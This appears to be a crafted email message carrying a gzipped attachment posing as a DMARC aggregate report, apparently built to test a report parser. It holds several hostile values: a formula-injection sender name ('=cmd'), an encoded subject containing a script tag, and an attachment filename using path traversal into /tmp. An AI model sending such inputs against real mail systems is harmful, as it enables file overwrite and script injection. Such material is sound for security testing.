Return-Path: <x@hostile.example>
Received: from hostile.example by mx.example.com (Postfix) with ESMTPS
	for <dmarc@example.com>; Mon, 16 Nov 2026 01:00:13 +0000 (UTC)
Date: Mon, 16 Nov 2026 01:00:13 +0000
From: "=cmd" <x@hostile.example>
To: dmarc@example.com
Subject: =?utf-8?B?wpszMW1SRUQgPHNjcmlwdD4=?=
Message-ID: <1794790813.1@hostile.example>
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="=_1794790813"

--=_1794790813
Content-Type: application/gzip;
	name="../../../../tmp/evil!example.com!1794700800!1794787200.xml.gz"
Content-Disposition: attachment;
	filename="../../../../tmp/evil!example.com!1794700800!1794787200.xml.gz"
Content-Transfer-Encoding: base64

H4sIAAAAAAACA+1WXW/TMBR9368wQdrHw+IkjLWlrsfYhkBMMFXjgafIdW5TsySOHHd0Ej8eu85X
yxADgeBhT7PPvb73nOObeuRklWfoFlQlZDHxQj/wEBRcJqJIJ97H69eHQ++E7pA5QDJj/IbuIETq
dGqyCW42NqCglErHOWiWMM0sZlCp0rhgOdApZOwO7T5djWbjZ2E+vTh36yC3YBREME7Lzz6swG35
GO1melxxJUq9m+oxy0Dp/fDAoriDCW5buI6QM5FRz8Zs6swuVt7Lhay0yMA0YHmZAcEurz6z0orF
XBaacR2LYi7phOfJ1z2EzxBnGd97cmrk3pPmztfaRUL3DsbofPrhCl2fvrq8QC4wRoeHBHdJ7pBx
CWLFirRmbqAZpMJYOxgdDYJgGJiWDmniUCQuOhxENmr3rhjerNZ2618HKWUm+F1cLmeZqBbQEpHG
ioLWzvhc5qacw1wCS25EThXBblGDVTlfY/avg0payMJYWzZ7rmloedrFmtV9DIx7XKqGjJJfWrmV
XCoOsShpFIz84XM/PB74RwOCu0CTyuWy0PSYYLdo4Lof3LJsaQxKmoBVLapSVkLb+XW0+0gvz0ou
WVWZhFa9o2eEu0BrQU/jVk9zI40yIhIotJgL8/W0xxbAElDxXMl88yb6gbrSd+cJW+pFrKBaZror
uUX3Z9fsNEEGXEtFUylT+5m0QJfj+tTS602rvt+U9Hx5MAEuS6C5lWuarzcP7NzNId62wyY3M/YL
4xaFQ//o+MfjNngct8dx+wPjFo4iP/AjPwrCf/DbNjfv4L3D5gKbpipgVb+EgfSdMU3qBZjHYL3u
B43ruZkeap9ikaeoUnyyQoaSUlJN2jfdvNFo8ubT1cX08u37d/veQuvyBcZbj7Z3YD1wBTtKeJPT
f/RF/KV5dPfyW/NIcPfP3DejGP32/wkAAA==
--=_1794790813--
